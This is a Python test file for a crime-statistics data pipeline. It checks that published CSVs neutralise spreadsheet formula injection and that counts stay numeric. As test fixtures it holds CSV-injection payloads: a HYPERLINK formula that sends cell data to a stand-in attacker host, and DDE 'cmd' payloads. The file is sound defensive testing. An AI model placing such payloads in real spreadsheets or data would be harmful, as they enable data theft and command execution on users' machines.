"""Published CSVs are safe to open in a spreadsheet (OWASP CSV injection; issue class 6).

A free-text force name that starts a formula (``=HYPERLINK(...)``, ``+``, ``-``,
``@``, a tab) is written into raw tables the way ingest writes them
(tests/rawkit.py), built by the real dbt project into the attrition marts, and
published by ``build_evaluation_report``: every cell of every published CSV
must come out neutralised (a leading single quote, quoted), while counts stay
numbers.
"""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path

import pandas as pd
import pytest

from masip.evaluation import build_evaluation_report
from masip.pipeline import build_linked
from masip.published_csv import FORMULA_TRIGGERS, write_frame
from tests import rawkit
from tests.rawkit import Drop, Row

AS_OF = date(2026, 11, 16)
HOSTILE_FORCES = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def _crime(drop: Drop, line: int, force: str) -> Row:
    return Row("crimes", drop, line, {
        "crime_ref": f"CR{line}", "force": force, "reported_at": datetime(2025, 6, 1, 12, 0),
        "offence_code": "195/12", "cps_referred_at": date(2025, 7, 1),
    }, updated_at=datetime(2025, 6, 1), persons={"VICTIM": {"name_dob_token": f"nd-{line}"}})


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("published_csv")
    drop = Drop("police-met-2026-11-16", "police-met", "police", AS_OF)
    rows = [_crime(drop, 2 + i * 10 + n, force) for i, force in enumerate(HOSTILE_FORCES) for n in range(10)]
    warehouse = root / "masip.duckdb"
    rawkit.load(warehouse, rows, (drop,))
    build_linked(warehouse)
    return build_evaluation_report(warehouse, root / "evaluation").out_dir


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_hostile_force_names_reach_the_published_csvs_neutralised(published: Path):
    paths = sorted(published.glob("attrition_*_published.csv"))
    assert len(paths) == 4
    forces: set[str] = set()
    for path in paths:
        rows = _cells(path)
        for row in rows:
            assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), (path.name, row)
        header = rows[0]
        if "force" in header:
            forces |= {row[header.index("force")] for row in rows[1:]}
        raw = path.read_text(encoding="utf-8")
        assert '"\'=HYPERLINK(' in raw or "force" not in header, path.name  # quoted, quote-prefixed
    assert {f"'{force}" for force in HOSTILE_FORCES} <= forces
    # counts are still numbers: a spreadsheet or pandas reads them as such
    funnel = pd.read_csv(published / "attrition_funnel_published.csv")
    assert pd.api.types.is_numeric_dtype(funnel["crimes"])
    assert sorted(funnel.loc[funnel.stage == "RECORDED", "crimes"]) == [10] * 5 + [50]  # 5 forces + all forces


def test_numbers_stay_numbers_and_text_that_looks_negative_is_neutralised(tmp_path: Path):
    frame = pd.DataFrame({
        "label": ["-5", "=1+1", "plain", None, "@x", "+1", "\rx", 'say "hi"'],
        "n": pd.array([-5, 3, 0, None, 7, 1, 2, 4], dtype="Int64"),
        "rate": [-0.25, 0.5, float("nan"), 1.0, 2.0, 3.0, 4.0, 5.0],
    })
    path = write_frame(tmp_path / "t.csv", frame)
    lines = path.read_bytes().decode("utf-8").split("\r\n")
    assert lines[0] == '"label","n","rate"'
    assert lines[1] == "\"'-5\",-5,-0.25"
    assert lines[2] == "\"'=1+1\",3,0.5"
    assert lines[3] == '"plain",0,'
    assert lines[4] == ",,1.0"
    assert lines[8] == '"say ""hi""",4,5.0'
    rows = _cells(path)
    assert [r[0] for r in rows[1:]] == ["'-5", "'=1+1", "plain", "", "'@x", "'+1", "'\rx", 'say "hi"']
